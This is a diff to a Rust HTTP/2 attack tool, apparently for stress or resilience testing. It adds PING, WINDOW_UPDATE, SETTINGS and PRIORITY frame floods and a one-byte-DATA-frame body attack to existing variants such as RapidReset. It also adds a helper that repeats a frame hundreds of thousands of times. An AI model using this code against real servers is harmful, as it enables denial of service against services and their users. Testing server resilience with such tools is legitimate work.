@@ -3,9 +3,13 @@
 use tokio::{io::AsyncWriteExt, net::TcpStream};
 
 const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
+const DATA: u8 = 0;
 const HEADERS: u8 = 1;
+const PRIORITY: u8 = 2;
 const RST_STREAM: u8 = 3;
 const SETTINGS: u8 = 4;
+const PING: u8 = 6;
+const WINDOW_UPDATE: u8 = 8;
 const CONTINUATION: u8 = 9;
 const END_STREAM: u8 = 1;
 const END_HEADERS: u8 = 4;
@@ -31,6 +35,16 @@ pub enum Attack {
     UnfinishedCheck,
     /// HTTP/2, with a hundred unfinished health checks. Their headers are large, and refer to the HPACK table.
     LargeHeaders,
+    /// PING frames without end.
+    Pings,
+    /// WINDOW_UPDATE frames without end.
+    WindowUpdates,
+    /// SETTINGS frames without end.
+    Settings,
+    /// PRIORITY frames without end.
+    Priorities,
+    /// A body in DATA frames of one byte.
+    TinyData,
 }
 
 fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
@@ -54,6 +68,16 @@ fn post(path: &str) -> Vec<u8> {
         block.extend(value.as_bytes());
     }
     block
+}
+
+/// Sends the frame again and again, some megabytes of it.
+async fn flood(mut stream: TcpStream, hello: &[u8], frame: &[u8]) -> Option<TcpStream> {
+    stream.write_all(hello).await.ok()?;
+    let frames = frame.repeat(1_000);
+    for _ in 0..300 {
+        stream.write_all(&frames).await.ok()?;
+    }
+    Some(stream)
 }
 
 impl Attack {
@@ -92,6 +116,15 @@ impl Attack {
                     frames.extend(frame(HEADERS, END_HEADERS, 2 * number + 1, &block));
                 }
                 stream.write_all(&frames).await.ok().map(|()| stream)
+            }
+            Self::Pings => flood(stream, &hello, &frame(PING, 0, 0, &[1; 8])).await,
+            Self::WindowUpdates => flood(stream, &hello, &frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])).await,
+            Self::Settings => flood(stream, &hello, &frame(SETTINGS, 0, 0, &[])).await,
+            Self::Priorities => flood(stream, &hello, &frame(PRIORITY, 0, 1, &[0; 5])).await,
+            Self::TinyData => {
+                let call = frame(HEADERS, END_HEADERS, 1, &post("/1.1/collections/destroy.json"));
+                let data = frame(DATA, 0, 1, b"x").repeat(60_000);
+                stream.write_all(&[hello, call, data].concat()).await.ok().map(|()| stream)
             }
             Self::Idle => stream.write_all(&hello).await.ok().map(|()| stream),
             Self::RapidReset => {
